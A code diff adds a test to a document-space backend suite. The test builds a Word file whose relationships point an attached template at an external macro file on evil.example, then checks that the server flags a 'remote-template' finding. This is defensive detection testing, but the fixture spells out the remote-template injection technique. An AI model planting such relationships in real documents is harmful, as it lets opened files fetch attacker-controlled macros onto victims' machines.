@@ -4,6 +4,7 @@ import { HistoryPage } from '#/backend/api/history/contract.ts';
 import { largestFile } from '#/backend/api/documents/examine.ts';
 import { sendForm } from '#/tests/makers/form.ts';
 import { deviceOf, member, type Person } from '#/tests/makers/person.ts';
+import { zipOf } from '#/tests/makers/zip.ts';
 import { startServer, type Server } from '#/tests/makers/server.ts';
 
 let server: Server;
@@ -55,6 +56,20 @@ describe('The document space', () => {
     expect(response.headers['content-security-policy']).toBe(
       "default-src 'none'; sandbox; base-uri 'none'; frame-ancestors 'none'",
     );
+  });
+
+  it('says of a file what opening it would fetch, and keeps that with the version', async () => {
+    const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
+    const away = `<Relationship Id="r" Type="${type}" Target="https://evil.example/t.dotm" TargetMode="External"/>`;
+    const bytes = zipOf({
+      '[Content_Types].xml': '<Types/>',
+      'word/document.xml': '<document/>',
+      'word/_rels/settings.xml.rels': `<Relationships>${away}</Relationships>`,
+    });
+    (await upload({}, { name: 'plan.docx', bytes })).as(Uploaded);
+    await uploaded();
+    const found = (await space()).documents.map(({ versions }) => versions.map(({ findings }) => findings));
+    expect(found).toEqual([[['remote-template']], [[]]]);
   });
 
   it('keeps every version, each with its reason', async () => {
